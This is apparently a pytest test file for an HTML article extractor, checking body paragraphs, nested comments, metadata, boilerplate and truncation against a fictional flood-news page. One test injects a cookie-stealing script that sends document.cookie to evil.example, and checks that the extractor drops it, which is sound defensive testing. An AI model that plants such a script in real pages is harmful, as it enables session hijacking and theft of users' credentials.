"""HTML extraction (trafilatura + DOM recovery of comment threads and boilerplate)."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from newsprism.extract.html import extract_html
from newsprism.model import BoilerplateKind, Document, Hints, InputFormat
from newsprism.options import Options

ARTICLE_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Floods displace thousands in the river valley | The Valley Courier</title>
<meta property="og:title" content="Floods displace thousands in the river valley">
<meta property="og:site_name" content="The Valley Courier">
<meta name="author" content="Jane Miller; Omar Haddad">
<meta name="description" content="Heavy rain forced evacuations across three districts.">
<link rel="canonical" href="https://valleycourier.example/2023/05/floods-displace-thousands">
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"Floods displace thousands in the river valley","datePublished":"2023-05-14T08:30:00Z","author":[{"@type":"Person","name":"Jane Miller"},{"@type":"Person","name":"Omar Haddad"}],"publisher":{"@type":"Organization","name":"The Valley Courier"}}</script>
</head><body>
<header class="site-header"><nav class="main-nav"><ul><li><a href="/">Home</a></li><li><a href="/world">World</a></li><li><a href="/politics">Politics</a></li><li><a href="/sport">Sport</a></li></ul></nav></header>
<main><article class="post">
<h1 class="entry-title">Floods displace thousands in the river valley</h1>
<div class="byline">By Jane Miller and Omar Haddad, May 14, 2023</div>
<div class="entry-content">
<p>Heavy rain over the weekend forced more than twelve thousand people from their homes across three districts of the river valley, local authorities said on Sunday.</p>
<p>The regional emergency office opened eleven shelters in schools and sports halls, and said that water levels on the main river were still rising at several gauging stations.</p>
<p>“We have never seen the water come up this fast,” said a farmer from the lower valley, who asked not to be named because she feared losing her lease.</p>
<p>Meteorologists expect the rain to ease by Tuesday, but warned that saturated soil would keep the risk of landslides high for at least another week.</p>
</div>
<div class="share-buttons"><a href="#">Share on Facebook</a> <a href="#">Share on Twitter</a> <a href="#">Email this article</a></div>
</article>
<aside class="related-posts"><h3>Related articles</h3><ul><li><a href="/a">Dam inspection ordered after spring storms</a></li><li><a href="/b">Insurers brace for record claims season</a></li></ul></aside>
<div id="comments" class="comments-area">
<h2 class="comments-title">3 thoughts on “Floods displace thousands in the river valley”</h2>
<ol class="comment-list">
<li id="comment-101" class="comment even thread-even depth-1">
<article id="div-comment-101" class="comment-body">
<footer class="comment-meta"><div class="comment-author vcard"><b class="fn">RiverWatcher</b> <span class="says">says:</span></div>
<div class="comment-metadata"><a href="#comment-101"><time datetime="2023-05-14T10:00:00">May 14, 2023 at 10:00 am</time></a></div></footer>
<div class="comment-content"><p>My cousin lives in the lower valley and says the shelters are already full, the authorities need to open more of them quickly.</p></div>
</article>
<ol class="children">
<li id="comment-102" class="comment odd alt depth-2">
<article id="div-comment-102" class="comment-body">
<footer class="comment-meta"><div class="comment-author vcard"><b class="fn">Marta K.</b> <span class="says">says:</span></div></footer>
<div class="comment-content"><p>The school in our village took in forty families last night, volunteers are bringing blankets and food.</p></div>
</article>
</li>
</ol>
</li>
<li id="comment-103" class="comment even thread-odd depth-1">
<article id="div-comment-103" class="comment-body">
<footer class="comment-meta"><div class="comment-author vcard"><b class="fn">Paul</b> <span class="says">says:</span></div></footer>
<div class="comment-content"><p>Every spring the same story, and every spring the dam maintenance budget gets cut again by the council.</p></div>
</article>
</li>
</ol>
</div>
</main>
<footer class="site-footer"><p>© 2023 The Valley Courier. All rights reserved.</p><p><a href="/privacy">Privacy policy</a> | <a href="/contact">Contact us</a></p></footer>
</body></html>
"""

PARAGRAPHS = [
    "Heavy rain over the weekend forced more than twelve thousand people from their homes across three "
    "districts of the river valley, local authorities said on Sunday.",
    "The regional emergency office opened eleven shelters in schools and sports halls, and said that water "
    "levels on the main river were still rising at several gauging stations.",
    "\u201cWe have never seen the water come up this fast,\u201d said a farmer from the lower valley, who asked "
    "not to be named because she feared losing her lease.",
    "Meteorologists expect the rain to ease by Tuesday, but warned that saturated soil would keep the risk "
    "of landslides high for at least another week.",
]
COMMENTS = [
    "My cousin lives in the lower valley and says the shelters are already full, the authorities need to "
    "open more of them quickly.",
    "The school in our village took in forty families last night, volunteers are bringing blankets and food.",
    "Every spring the same story, and every spring the dam maintenance budget gets cut again by the council.",
]
NOT_BODY = [
    "Home", "Politics", "Share on Facebook", "Dam inspection ordered", "All rights reserved",
    "Privacy policy", "RiverWatcher", "thoughts on", *COMMENTS,
]


def run(html: str, **hints) -> Document:
    document = Document(id="t", source="test.html", format=InputFormat.HTML, raw_text=html, hints=Hints(**hints))
    return extract_html(document, Options())


def test_body_holds_the_article_paragraphs_and_nothing_else():
    document = run(ARTICLE_PAGE)
    assert document.body == "\n\n".join(PARAGRAPHS)
    for text in NOT_BODY:
        assert text not in document.body
    assert [document.body[p.start : p.end] for p in document.paragraphs] == PARAGRAPHS
    assert all(p.source_start is None and p.source_end is None for p in document.paragraphs)
    assert document.warnings == []


def test_title_is_not_repeated_in_the_body():
    document = run(ARTICLE_PAGE)
    assert "Floods displace thousands" not in document.body


def test_comments_come_one_by_one_with_authors_and_nesting():
    comments = run(ARTICLE_PAGE).comments
    assert [c.text for c in comments] == COMMENTS
    assert [c.id for c in comments] == ["c1", "c2", "c3"]
    assert [c.author for c in comments] == ["RiverWatcher", "Marta K.", "Paul"]
    assert [(c.parent, c.depth) for c in comments] == [(None, 0), ("c1", 1), (None, 0)]


def test_metadata_hints_from_meta_tags_and_json_ld():
    document = run(ARTICLE_PAGE)
    hints = document.hints
    assert hints.title == "Floods displace thousands in the river valley"
    assert hints.authors == ["Jane Miller", "Omar Haddad"]
    assert hints.published == "2023-05-14"
    assert hints.sitename == "The Valley Courier"
    assert hints.description == "Heavy rain forced evacuations across three districts."
    assert document.url == hints.url == "https://valleycourier.example/2023/05/floods-displace-thousands"


def test_container_hints_are_not_overwritten():
    document = run(ARTICLE_PAGE, title="Feed title", authors=["Feed Author"], url="https://feed.example/a")
    assert document.hints.title == "Feed title"
    assert document.hints.authors == ["Feed Author"]
    assert document.url == document.hints.url == "https://feed.example/a"
    assert document.hints.sitename == "The Valley Courier"  # not given by the container: filled


def test_boilerplate_is_kept_apart_with_kinds():
    document = run(ARTICLE_PAGE)
    by_kind = {}
    for item in document.boilerplate:
        by_kind.setdefault(item.kind, []).append(item.text)
    assert any("Home" in t and "Sport" in t for t in by_kind[BoilerplateKind.NAVIGATION])
    assert any("Share on Facebook" in t for t in by_kind[BoilerplateKind.SHARE])
    assert any("Dam inspection ordered" in t for t in by_kind[BoilerplateKind.RELATED])
    assert any("All rights reserved" in t for t in by_kind[BoilerplateKind.DISCLAIMER])
    texts = " ".join(i.text for i in document.boilerplate)
    for paragraph in PARAGRAPHS + COMMENTS:
        assert paragraph not in texts


def test_page_without_comments_has_none():
    start, end = ARTICLE_PAGE.index('<div id="comments"'), ARTICLE_PAGE.index("</main>")
    document = run(ARTICLE_PAGE[:start] + ARTICLE_PAGE[end:])
    assert document.comments == []
    assert document.body == "\n\n".join(PARAGRAPHS)


def test_truncated_html_keeps_what_was_received():
    cut = ARTICLE_PAGE[: ARTICLE_PAGE.index("Meteorologists expect") + 30]
    document = run(cut)
    assert PARAGRAPHS[0] in document.body
    assert PARAGRAPHS[2] in document.body
    assert "Meteorologists expect" in document.body


def test_page_without_article_gives_empty_body_and_a_warning():
    html = (
        "<html><head><title>Login</title></head><body><nav><a href='/'>Home</a> <a href='/a'>About</a></nav>"
        "<form><input name='user'></form><footer><p>Contact the newsroom</p><p>Terms of use</p></footer>"
        "</body></html>"
    )
    document = run(html)
    assert document.body == ""
    assert document.paragraphs == []
    assert "no main text found" in document.warnings
    assert document.hints.title == "Login"


def test_empty_input_is_not_an_exception():
    document = run("   ")
    assert document.body == "" and "no main text found" in document.warnings


def test_script_in_the_article_is_not_body_text():
    hostile = (
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<noscript>Enable JavaScript to read this</noscript>"
        "<style>p { display: none }</style>"
    )
    html = ARTICLE_PAGE.replace("<p>The regional emergency office", hostile + "<p>The regional emergency office")
    document = run(html)
    assert "evil.example" not in document.body
    assert "document.cookie" not in document.body
    assert "display: none" not in document.body
    assert all("evil.example" not in b.text for b in document.boilerplate)
    assert PARAGRAPHS[1] in document.body


def test_deeply_nested_markup_does_not_crash():
    html = "<html><body>" + "<div>" * 5000 + "<p>" + PARAGRAPHS[0] + "</p>" + "</div>" * 5000 + "</body></html>"
    document = run(html)
    assert isinstance(document.body, str)


def test_boilerplate_is_bounded():
    links = "".join(f"<li><a href='/{i}'>Section number {i} of the site</a></li>" for i in range(2000))
    html = ARTICLE_PAGE.replace("<main>", f"<nav class='mega-menu'><ul>{links}</ul></nav><main>")
    document = run(html)
    assert len(document.boilerplate) <= 60
    assert all(len(item.text) <= 300 for item in document.boilerplate)


@given(st.integers(min_value=0, max_value=len(ARTICLE_PAGE)))
def test_any_truncation_gives_a_consistent_document(cut):
    document = run(ARTICLE_PAGE[:cut])
    expected = document.body.split("\n\n") if document.body else []
    assert [document.body[p.start : p.end] for p in document.paragraphs] == expected
    body_paragraphs = set(expected)
    for comment in document.comments:
        # A page cut mid-comment leaves a stub like "T", which may occur inside body words:
        # the invariant is that no comment is (part of) a body paragraph's own text.
        assert comment.text and comment.text not in body_paragraphs
        assert len(comment.text) < 20 or comment.text not in document.body
        if comment.parent is not None:
            assert int(comment.parent[1:]) < int(comment.id[1:])
